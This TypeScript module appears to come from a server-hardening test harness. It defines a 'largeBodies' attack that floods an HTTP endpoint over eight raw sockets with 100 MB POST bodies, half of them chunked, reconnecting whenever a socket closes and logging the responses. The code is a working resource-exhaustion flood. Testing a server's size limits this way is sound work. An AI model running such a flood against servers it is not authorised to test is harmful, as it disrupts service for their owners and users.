import { connect, type Socket } from 'node:net';
import { setTimeout as pause } from 'node:timers/promises';
import { performance } from 'node:perf_hooks';
import type { Attack, Attacking } from '../attack.ts';

const connections = 8;
const megabytes = 100;
const chunk = Buffer.alloc(64 * 1024, ' ');
/** A line of 1 Gbit/s: on a slower one it would not arrive within the attack. */
const bytesPerSecond = 125_000_000;

/** Bodies of 100 MB, every other one without its length, on eight connections and anew wherever one is closed. */
export const largeBodies: Attack = async (attacking) => {
  const ends = performance.now() + attacking.seconds * 1000;
  await Promise.all(Array.from({ length: connections }, (_, index) => sendUntil(ends, index, attacking)));
};

async function sendUntil(ends: number, index: number, attacking: Attacking): Promise<void> {
  for (let turn = index; performance.now() < ends; turn++) {
    const socket = connect({
      host: attacking.url.hostname,
      port: Number(attacking.url.port),
      localAddress: attacking.localAddress,
    });
    socket.on('error', () => undefined); // told by what was answered
    let answer = '';
    socket.on('data', (data) => (answer += data.toString('latin1')));
    // What is refused is not read any more: its connection only fills.
    const late = setTimeout(() => socket.destroy(), ends - performance.now());
    await sendOne(socket, turn % 2 === 0, ends, attacking);
    clearTimeout(late);
    const code = /"code":"([A-Z_]+)"/.exec(answer)?.[1];
    attacking.answered(answer === '' ? 'closed' : `${answer.slice(9, 12)} ${code ?? ''}`.trimEnd());
    socket.destroy();
  }
}

async function sendOne(socket: Socket, hasLength: boolean, ends: number, { url, sent }: Attacking): Promise<void> {
  const size = hasLength ? `content-length: ${megabytes * 1_000_000}` : 'transfer-encoding: chunked';
  socket.write(
    `POST ${url.pathname} HTTP/1.1\r\nhost: ${url.host}\r\ncontent-type: application/json\r\n${size}\r\n\r\n`,
  );
  sent(0);
  const sizeLine = hasLength ? '' : `${chunk.length.toString(16)}\r\n`;
  const closed = new Promise((resolve) => socket.once('close', resolve));
  for (let bytes = 0; bytes < megabytes * 1_000_000 && performance.now() < ends; bytes += chunk.length) {
    if (socket.destroyed || socket.readableEnded) return;
    if (sizeLine !== '') socket.write(sizeLine);
    const drained = socket.write(chunk);
    if (sizeLine !== '') socket.write('\r\n');
    sent(chunk.length, 0);
    if (!drained) await Promise.race([new Promise((resolve) => socket.once('drain', resolve)), closed]);
    await pause((chunk.length / bytesPerSecond) * connections * 1000);
  }
}
